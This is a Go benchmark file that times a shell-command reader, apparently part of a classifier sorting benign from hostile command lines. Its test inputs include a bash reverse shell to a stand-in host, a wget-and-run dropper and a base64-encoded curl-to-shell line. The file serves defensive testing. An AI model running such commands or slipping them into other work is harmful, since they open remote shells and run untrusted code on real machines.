package command

import (
	"cmp"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"testing"
	"time"
)

// BenchmarkRead reads typical lines.
func BenchmarkRead(b *testing.B) {
	for name, args := range map[string][]string{
		"entrypoint":    {"/bin/sh", "-c", "exec gunicorn --bind :$PORT --workers 1 --threads 8 main:app"},
		"health":        {"sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz || exit 1"},
		"reverse_shell": {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"},
		"dropper":       {"sh", "-c", "cd /tmp; wget http://203.0.113.10/x -O .x; chmod 777 .x; ./.x; rm .x"},
		"encoded":       {"sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEwL2EgfCBzaA== | base64 -d | sh"},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Read(args, false)
			}
		})
	}
}

// BenchmarkReadCorpus reads the whole corpus; the figure that matters is ns/line.
func BenchmarkReadCorpus(b *testing.B) {
	lines, err := loadCorpus(filepath.Join("testdata", "corpus.ndjson"))
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		for _, l := range lines {
			Read(l.Args, false)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(lines)), "ns/line")
}

// BenchmarkReadTypical prints the median over the benign lines of the corpus.
func BenchmarkReadTypical(b *testing.B) {
	lines, err := loadCorpus(filepath.Join("testdata", "corpus.ndjson"))
	if err != nil {
		b.Fatal(err)
	}
	best := map[int]time.Duration{}
	for b.Loop() {
		for i, l := range lines {
			if l.Label != "benign" {
				continue
			}
			start := time.Now()
			Read(l.Args, false)
			if d := time.Since(start); best[i] == 0 || d < best[i] {
				best[i] = d
			}
		}
	}
	all := slices.Sorted(maps.Values(best))
	b.ReportMetric(float64(all[len(all)/2].Microseconds()), "median-µs")
	b.ReportMetric(float64(all[len(all)*99/100].Microseconds()), "p99-µs")
}

// BenchmarkReadHostile reads texts made to be slow and prints the worst case:
// of each text its best time, of those the longest.
func BenchmarkReadHostile(b *testing.B) {
	best := map[string]time.Duration{}
	for b.Loop() {
		for name, text := range hostileTexts() {
			for i, args := range hostileVectors(text) {
				key := fmt.Sprintf("%s (%d)", name, i)
				start := time.Now()
				Read(args, false)
				if d := time.Since(start); best[key] == 0 || d < best[key] {
					best[key] = d
				}
			}
		}
	}
	keys := slices.SortedFunc(maps.Keys(best), func(x, y string) int { return cmp.Compare(best[y], best[x]) })
	for _, k := range keys[:8] {
		b.Logf("%8.2f ms  %s", float64(best[k].Microseconds())/1000, k)
	}
	b.ReportMetric(float64(best[keys[0]].Microseconds())/1000, "worst-ms")
	b.ReportMetric(float64(len(keys)), "texts")
}
